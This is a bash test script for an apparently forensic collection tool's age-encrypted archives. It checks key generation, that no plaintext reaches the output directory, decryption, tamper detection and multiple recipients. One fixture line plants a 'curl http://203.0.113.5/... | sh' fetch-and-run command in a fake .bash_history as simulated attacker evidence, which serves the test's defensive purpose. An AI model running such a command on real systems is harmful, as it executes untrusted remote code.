# Encrypted collections (collect --encrypt-to, age v1): keygen --age; the archive is written
# as ciphertext only (no plaintext evidence, log, journal or manifest in --out, not even for a
# moment: strace watches every file created there); the real `age` decrypts it and tar lists
# it, its members match the manifest; custody decrypt = age -d byte for byte; verify, list
# and extract read it directly with --identity; a tampered file fails verify and decrypt
# (exit 1); age-keygen recipients and `age -r` files interoperate; two recipients; a full
# output device still ends with a valid encrypted archive.
source "$(dirname "$0")/lib.sh"

for t in age age-keygen jq zstd tar sha256sum; do
    command -v $t > /dev/null || skip "$t is not installed (Debian package: $t; 'make deps')"
done

C=$CUSTODY
R=$W/root
make_fixture "$R"
MARK="CUSTODY-PLAINTEXT-MARKER-$RANDOM$RANDOM-7f3a"
echo "$MARK in a log line" >> "$R/var/log/auth.log"
echo "curl http://203.0.113.5/$MARK | sh" >> "$R/home/alice/.bash_history"
# incompressible, so the ciphertext spans several 64 KiB age chunks
head -c $((400 << 10)) /dev/urandom > "$R/var/log/big.log"

# -- keygen --age
set +e
"$C" keygen --age --out "$W/k" > "$W/kg.out" 2> "$W/kg.err"; rc=$?
set -e
check "keygen --age exits 0" [ "$rc" -eq 0 ]
check "identity file mode 0600" [ "$(stat -c %a "$W/k.age.key")" = 600 ]
check "identity file in age-keygen's format" bash -c \
    "sed -n 1p '$W/k.age.key' | grep -Eq '^# created: [0-9]{4}-[0-9]{2}-[0-9]{2}T' &&
     sed -n 2p '$W/k.age.key' | grep -Eq '^# public key: age1[02-9ac-hj-np-z]{58}$' &&
     sed -n 3p '$W/k.age.key' | grep -Eq '^AGE-SECRET-KEY-1[02-9AC-HJ-NP-Z]{58}$' &&
     [ \$(wc -l < '$W/k.age.key') -eq 3 ]"
PUB=$(cat "$W/k.age.pub")
check "stdout is the recipient, = the .pub" [ "$(cat "$W/kg.out")" = "$PUB" ]
check "age-keygen -y derives the same recipient from the identity" \
    [ "$(age-keygen -y "$W/k.age.key")" = "$PUB" ]
before=$(sha256sum "$W/k.age.key" "$W/k.age.pub")
set +e; "$C" keygen --age --out "$W/k" > /dev/null 2>&1; rc=$?; set -e
check "keygen --age never overwrites (exit 2)" [ "$rc" -eq 2 ]
check "  and leaves the files unchanged" [ "$before" = "$(sha256sum "$W/k.age.key" "$W/k.age.pub")" ]

# -- an encrypted collection, every file created in --out traced
OUT=$W/out
mkdir -p "$OUT"
if command -v strace > /dev/null; then
    set +e
    # LeakSanitizer cannot run under ptrace: leaks are checked by the runs without strace
    ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0" \
    strace -f -qq -e trace=open,openat,creat,rename,renameat,renameat2,link,linkat,symlink,symlinkat,mknod,mknodat,unlink,unlinkat \
        -o "$W/strace.out" "$C" collect --root "$R" --out "$OUT" --encrypt-to "$PUB" \
        --case IR-9 > "$W/collect.out" 2> "$W/collect.err"
    RC=$?
    set -e
    ARCHIVE=$(tail -n 1 "$W/collect.out" || true)
    # every path under --out that the run created or opened for writing
    grep -F "$OUT/" "$W/strace.out" | grep -E 'O_CREAT|O_WRONLY|O_RDWR|rename|link|mknod' \
        | grep -o "\"$OUT/[^\"]*\"" | tr -d '"' | sort -u > "$W/created"
    check "files created in --out: only the .age, the reserve, the sidecar, the .pub and the sealed journal ($(tr '\n' ' ' < "$W/created"))" \
        bash -c "! grep -Ev '\\.tar\\.zst\\.age(\\.sha256|\\.pub)?\$|\\.reserve\$|/\\.[^/]*\\.sealed-journal\$' '$W/created' && grep -q '\\.tar\\.zst\\.age\$' '$W/created'"
    # The sealed journal (AES-256-CTR under a key held only in memory) is unlinked as soon as
    # it is made: it never has a name once the run is under way. tests/unit/test_seal.c
    # checks that its bytes are not the plaintext.
    sj=$(grep -o "\"$OUT/\.[^\"]*\.sealed-journal\"" "$W/strace.out" | head -n 1 | tr -d '"')
    check "the sealed journal is unlinked right after it is created" \
        bash -c "[ -n '$sj' ] && grep -n -F '$sj' '$W/strace.out' | head -n 2 | tail -n 1 | grep -q unlink"
else
    echo "SKIP: strace is not installed: the check of every file created in --out did not run"
    collect --root "$R" --out "$OUT" --encrypt-to "$PUB" --case IR-9
fi
check "encrypted collect exits 0 ($RC)" [ "$RC" -eq 0 ]
check "archive named <stem>.tar.zst.age" bash -c \
    "basename '$ARCHIVE' | grep -Eq '^fixturehost-[0-9]{8}T[0-9]{6}Z-IR-9\\.tar\\.zst\\.age\$'"
check "it is an age file" bash -c "head -n 1 '$ARCHIVE' | grep -qx 'age-encryption.org/v1'"
check "--out holds only the .age, its .sha256 and .pub" bash -c \
    "[ \"\$(cd '$OUT' && ls | sed 's/^fixturehost-[0-9TZ]*-IR-9//' | sort | tr '\n' ' ')\" = '.tar.zst.age .tar.zst.age.pub .tar.zst.age.sha256 ' ]"
check "sidecar = sha256sum of the .age file as written" bash -c \
    "cd '$OUT' && sha256sum -c --quiet '$(basename "$ARCHIVE").sha256'"
check "no plaintext evidence in --out: the marker is in no file" bash -c "! grep -rlaF '$MARK' '$OUT'"
check "  nor the log, the manifest or the fixture's file names" bash -c \
    "! grep -rlaE 'custody-manifest/1|collection\\.log|bash_history|auth\\.log' '$OUT'"
check "  nor a zstd or tar stream" bash -c "! grep -rlaP '\\x28\\xb5\\x2f\\xfd|ustar' '$OUT'"

# -- the real age decrypts it; tar lists it; members match the manifest
check "age -d decrypts it" bash -c "age -d -i '$W/k.age.key' -o '$W/plain.tar.zst' '$ARCHIVE'"
check "tar lists the decrypted archive" bash -c "tar -tf '$W/plain.tar.zst' > '$W/tar.list'"
check "bsdtar lists it too" bash -c "! command -v bsdtar >/dev/null || bsdtar -tf '$W/plain.tar.zst' > /dev/null"
unpack "$W/plain.tar.zst" "$W/x"
check "the marker is in the decrypted evidence" grep -rqaF "$MARK" "$W/x"
check "manifest validates against the JSON Schema" $PY "$CUSTODY_SRC/tests/tools/validate_manifest.py" "$SCHEMA" "$MF"
check "manifest records the encryption and its recipient" jq -e --arg r "$PUB" \
    '.collection.encryption == {"format": "age-encryption.org/v1", "recipients": [$r]}' "$MF"
jq -r '.entries[] | select(.sha256 != null and .member_b64 == null)
       | select(.member | test("[\\n\\t\\\\]") | not) | "\(.sha256)  \(.member)"' "$MF" > "$W/sums"
check "sha256 list covers the members" bash -c "[ \$(wc -l < '$W/sums') -ge 10 ]"
check "sha256sum of every extracted member equals the manifest" bash -c "cd '$W/x' && sha256sum -c --quiet '$W/sums'"
check "the .pub verifies manifest.sig" \
    openssl pkeyutl -verify -pubin -inkey "$ARCHIVE.pub" -rawin -in "$MF" -sigfile "$W/x/$STEM/manifest.sig"

# -- custody decrypt
set +e
"$C" decrypt --identity "$W/k.age.key" --out "$W/cd.tar.zst" "$ARCHIVE" 2> "$W/dec.err"; rc=$?
set -e
check "custody decrypt exits 0" [ "$rc" -eq 0 ]
check "custody decrypt = age -d, byte for byte" cmp "$W/cd.tar.zst" "$W/plain.tar.zst"
"$C" decrypt -i "$W/k.age.key" --out - "$ARCHIVE" > "$W/cd-stdout.tar.zst"
check "custody decrypt --out - writes stdout" cmp "$W/cd-stdout.tar.zst" "$W/plain.tar.zst"
cp "$ARCHIVE" "$W/copy.tar.zst.age"
"$C" decrypt -i "$W/k.age.key" "$W/copy.tar.zst.age" 2> /dev/null
check "default output: ARCHIVE without .age" cmp "$W/copy.tar.zst" "$W/plain.tar.zst"
before=$(sha256sum "$W/copy.tar.zst")
set +e; "$C" decrypt -i "$W/k.age.key" "$W/copy.tar.zst.age" 2> /dev/null; rc=$?; set -e
check "decrypt refuses to overwrite (exit 2)" [ "$rc" -eq 2 ]
check "  and leaves the file unchanged" [ "$before" = "$(sha256sum "$W/copy.tar.zst")" ]
set +e
"$C" decrypt "$ARCHIVE" > /dev/null 2>&1; rc_noid=$?
"$C" decrypt -i "$W/k.age.key" --out "$W/nope" "$W/plain.tar.zst" > /dev/null 2>&1; rc_notage=$?
set -e
check "decrypt without --identity: exit 2" [ "$rc_noid" -eq 2 ]
check "decrypt of a file that is not age: exit 2" [ "$rc_notage" -eq 2 ]

# -- verify, list, extract read it directly
set +e
"$C" verify --identity "$W/k.age.key" "$ARCHIVE" > "$W/v.out" 2>&1; vrc=$?
"$C" verify "$ARCHIVE" > "$W/v-noid.out" 2>&1; vrc_noid=$?
set -e
check "verify --identity: exit 0" [ "$vrc" -eq 0 ]
check "  verify: OK" grep -q '^verify: OK' "$W/v.out"
check "verify of a .age without --identity: exit 2" [ "$vrc_noid" -eq 2 ]
check "  with a clear message" grep -q 'age-encrypted: give --identity' "$W/v-noid.out"
"$C" verify --identity "$W/k.age.key" --json "$ARCHIVE" > "$W/v.json" 2> /dev/null || true
check "verify --json: the sidecar was checked against the encrypted file" jq -e '.ok and .sidecar == true' "$W/v.json"
check "list --identity lists the entries" bash -c \
    "'$C' list --identity '$W/k.age.key' '$ARCHIVE' | grep -q '/var/log/auth.log\$'"
set +e
"$C" extract --identity "$W/k.age.key" "$ARCHIVE" --to "$W/ex" > /dev/null 2>&1; erc=$?
set -e
check "extract --identity: exit 0" [ "$erc" -eq 0 ]
check "  the extracted tree = tar's" diff -r "$W/x/$STEM/fs/etc" "$W/ex/$STEM/fs/etc"

# -- a wrong identity
age-keygen -o "$W/other.key" 2> /dev/null
set +e
"$C" verify --identity "$W/other.key" "$ARCHIVE" > "$W/v-wrong.out" 2>&1; rc_v=$?
"$C" decrypt --identity "$W/other.key" --out "$W/wrong.tar.zst" "$ARCHIVE" > /dev/null 2>&1; rc_d=$?
set -e
check "verify with a wrong identity: exit 2 (no identity matches)" [ "$rc_v" -eq 2 ]
check "decrypt with a wrong identity: exit 1" [ "$rc_d" -eq 1 ]
check "  and no output left" test ! -e "$W/wrong.tar.zst"

# -- a tampered .age (one byte flipped in the middle)
T=$W/tamper
mkdir -p "$T"
cp "$ARCHIVE" "$ARCHIVE.sha256" "$T/"
TA=$T/$(basename "$ARCHIVE")
size=$(stat -c %s "$TA")
off=$((size / 2))
byte=$(od -An -tu1 -j "$off" -N1 "$TA" | tr -d ' ')
printf "$(printf '\\%03o' $((byte ^ 1)))" | dd of="$TA" bs=1 seek="$off" conv=notrunc 2> /dev/null
check "the tampered copy differs" bash -c "! cmp -s '$TA' '$ARCHIVE'"
set +e
"$C" verify --identity "$W/k.age.key" "$TA" > "$W/vt.out" 2>&1; rc_vt=$?
"$C" decrypt --identity "$W/k.age.key" --out "$W/t.tar.zst" "$TA" > "$W/dt.out" 2>&1; rc_dt=$?
age -d -i "$W/k.age.key" -o "$W/t-age.tar.zst" "$TA" > /dev/null 2>&1; rc_at=$?
"$C" extract --identity "$W/k.age.key" "$TA" --to "$W/ext" > /dev/null 2>&1; rc_et=$?
set -e
check "tampered: verify exits 1" [ "$rc_vt" -eq 1 ]
check "  and says why (authentication, sidecar)" bash -c \
    "grep -q 'failed authentication' '$W/vt.out' && grep -q '^SIDECAR' '$W/vt.out'"
check "tampered: decrypt exits 1" [ "$rc_dt" -eq 1 ]
check "  and removes its partial output" test ! -e "$W/t.tar.zst"
check "tampered: age -d refuses it too" [ "$rc_at" -ne 0 ]
check "tampered: extract exits 1 and writes nothing" bash -c "[ $rc_et -eq 1 ] && [ -z \"\$(ls -A '$W/ext' 2>/dev/null)\" ]"

# -- interoperability: age-keygen recipients; age -r files decrypted by custody
age-keygen -o "$W/ak.key" 2> /dev/null
AKPUB=$(age-keygen -y "$W/ak.key")
echo "# a recipients file: comments and blank lines are ignored" > "$W/recipients.txt"
echo "" >> "$W/recipients.txt"
echo "$AKPUB" >> "$W/recipients.txt"
age -r "$PUB" -o "$W/byage.age" "$W/plain.tar.zst"
"$C" decrypt -i "$W/k.age.key" --out "$W/byage.tar.zst" "$W/byage.age" 2> /dev/null
check "custody decrypt of an 'age -r' file (custody key)" cmp "$W/byage.tar.zst" "$W/plain.tar.zst"
age -r "$AKPUB" -o "$W/byage2.age" "$W/plain.tar.zst"
"$C" decrypt -i "$W/ak.key" --out "$W/byage2.tar.zst" "$W/byage2.age" 2> /dev/null
check "custody decrypt of an 'age -r' file (age-keygen key)" cmp "$W/byage2.tar.zst" "$W/plain.tar.zst"
set +e
"$C" verify -i "$W/k.age.key" "$W/byage.age" > /dev/null 2>&1; rc=$?
set -e
check "verify reads an archive that 'age -r' encrypted" [ "$rc" -eq 0 ]

# -- two recipients: a custody key (string) and an age-keygen key (recipients file)
OUT2=$W/out2
collect --root "$R" --out "$OUT2" --include '/etc/**' --include '/var/log/auth.log' \
    --encrypt-to "$PUB" --encrypt-to "$W/recipients.txt"
check "two recipients: collect exits 0 ($RC)" [ "$RC" -eq 0 ]
age -d -i "$W/k.age.key" -o "$W/two-a.tar.zst" "$ARCHIVE"
age -d -i "$W/ak.key" -o "$W/two-b.tar.zst" "$ARCHIVE"
check "two recipients: age -d with each key gives the same archive" cmp "$W/two-a.tar.zst" "$W/two-b.tar.zst"
"$C" decrypt -i "$W/k.age.key" --out "$W/two-c.tar.zst" "$ARCHIVE" 2> /dev/null
"$C" decrypt -i "$W/ak.key" --out "$W/two-d.tar.zst" "$ARCHIVE" 2> /dev/null
check "two recipients: custody decrypt with each key, = age -d" bash -c \
    "cmp '$W/two-c.tar.zst' '$W/two-a.tar.zst' && cmp '$W/two-d.tar.zst' '$W/two-a.tar.zst'"
set +e
"$C" verify -i "$W/ak.key" "$ARCHIVE" > /dev/null 2>&1; rc=$?
set -e
check "two recipients: verify with the age-keygen identity" [ "$rc" -eq 0 ]
unpack "$W/two-a.tar.zst" "$W/x2"
check "two recipients: both in the manifest, in order" jq -e --arg a "$PUB" --arg b "$AKPUB" \
    '.collection.encryption.recipients == [$a, $b]' "$MF"
check "two recipients: the manifest validates" $PY "$CUSTODY_SRC/tests/tools/validate_manifest.py" "$SCHEMA" "$MF"
check "two recipients: no plaintext in --out" bash -c "! grep -rlaF '$MARK' '$OUT2'"

# -- bad recipients are usage errors and write nothing
set +e
"$C" collect --root "$R" --out "$W/out3" --include /etc/hosts --encrypt-to age1notakey > /dev/null 2>&1; rc1=$?
"$C" collect --root "$R" --out "$W/out3" --include /etc/hosts --encrypt-to "$W/missing.txt" > /dev/null 2>&1; rc2=$?
set -e
check "a malformed recipient: exit 2" [ "$rc1" -eq 2 ]
check "a missing recipients file: exit 2" [ "$rc2" -eq 2 ]
check "  and nothing written" bash -c "[ -z \"\$(ls -A '$W/out3' 2>/dev/null)\" ]"

# -- a full output device (a small tmpfs): exit 3, a valid encrypted archive, no plaintext
if [ "$(id -u)" -ne 0 ]; then
    echo "SKIP: not root: the encrypted full-device check (tmpfs) did not run"
else
    F=$W/full
    mkdir -p "$F" "$R/data"
    for i in 1 2 3; do head -c $((20 << 20)) /dev/urandom > "$R/data/blob$i"; done
    echo "$MARK" >> "$R/data/blob1"
    if mount -t tmpfs -o size=40m tmpfs "$F" 2> /dev/null; then
        trap 'umount "$F" 2>/dev/null || true' EXIT
        set +e
        "$C" collect --root "$R" --out "$F" --include '/data/**' --encrypt-to "$PUB" \
            > "$W/full.out" 2> "$W/full.err"
        rc=$?
        set -e
        A=$(tail -n 1 "$W/full.out")
        check "encrypted, full device: exit 3 ($rc)" [ "$rc" -eq 3 ]
        check "encrypted, full device: the .age is there" test -f "$A"
        check "encrypted, full device: sidecar matches" bash -c "cd '$F' && sha256sum -c --quiet \$(basename '$A').sha256"
        check "encrypted, full device: no reserve left, no plaintext" bash -c \
            "! ls '$F'/*.reserve 2>/dev/null && ! grep -rlaF '$MARK' '$F'"
        set +e
        "$C" verify -i "$W/k.age.key" "$A" > "$W/vfull.out" 2>&1; vrc=$?
        set -e
        check "encrypted, full device: verifies" [ "$vrc" -eq 0 ]
        check "encrypted, full device: state output-full" grep -q 'collection state: output-full' "$W/vfull.out"
        umount "$F"; trap - EXIT
    else
        echo "SKIP: cannot mount a tmpfs here: the encrypted full-device check did not run"
    fi
    rm -rf "$R/data"
fi
finish
